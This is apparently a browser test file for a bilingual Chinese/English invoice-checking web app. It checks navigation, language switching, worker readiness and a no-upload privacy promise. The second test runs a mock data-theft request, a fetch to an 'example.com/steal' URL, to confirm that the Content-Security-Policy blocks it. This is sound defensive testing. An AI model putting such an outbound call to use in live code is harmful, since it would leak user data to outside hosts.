// The app shell in a real browser: it loads, the worker answers, the three workflows open,
// the language switches both ways, nothing is requested from another host, no console errors.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { serve, launch, openPage, screenshot } from './harness.mjs';

let server, browser;
before(async () => { server = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

test('shell: workflows, language switch, worker, privacy', async () => {
  const { context, page, log } = await openPage(browser, server.url);
  await page.goto(server.url);
  await page.getByRole('heading', { level: 1, name: '发票核对' }).waitFor();
  // The worker runs the wasm core and answers.
  await page.locator('[data-testid=worker-status].ready').waitFor({ timeout: 15000 });
  assert.match(await page.locator('[data-testid=privacy-footer]').innerText(), /不上传/);

  const views = [
    ['单张查验', 'single', 'Check one invoice'],
    ['批量校验', 'validate', 'Validate a ledger'],
    ['对账', 'reconcile', 'Reconcile'],
  ];
  for (const [zh, id] of views) {
    await page.getByRole('link', { name: zh, exact: true }).click();
    await page.locator(`section[data-view=${id}] h2`).waitFor();
    assert.equal(await page.locator('#view-title').innerText(), zh);
    assert.ok(page.url().endsWith(`#/${id}`), page.url());
  }
  await screenshot(page, 'shell-zh');

  // English and back.
  await page.getByTestId('lang-switch').click();
  await page.getByRole('heading', { level: 1, name: 'Fapiao Check' }).waitFor();
  for (const [, id, en] of views) {
    await page.getByRole('link', { name: en, exact: true }).click();
    assert.equal(await page.locator(`section[data-view=${id}] #view-title`).innerText(), en);
  }
  assert.match(await page.locator('[data-testid=privacy-footer]').innerText(), /nothing is uploaded/);
  await screenshot(page, 'shell-en');
  await page.getByTestId('lang-switch').click();
  await page.getByRole('heading', { level: 1, name: '发票核对' }).waitFor();

  // A reload keeps the view (hash routing works without a server-side router).
  await page.reload();
  await page.locator('section[data-view=reconcile]').waitFor();

  assert.deepEqual(log.foreign, [], 'requests to other hosts');
  assert.deepEqual(log.errors, [], 'console errors');
  await context.close();
});

test('privacy: the Content-Security-Policy blocks a request to another host', async () => {
  const { context, page, log } = await openPage(browser, server.url);
  await page.goto(server.url);
  await page.getByRole('heading', { level: 1 }).waitFor();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = 'sent';
    try { await fetch('https://example.com/steal?data=1'); } catch { fetched = 'blocked'; }
    await new Promise((r) => setTimeout(r, 50));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  assert.deepEqual(log.foreign, [], 'the blocked request must not have gone out');
  await context.close();
});
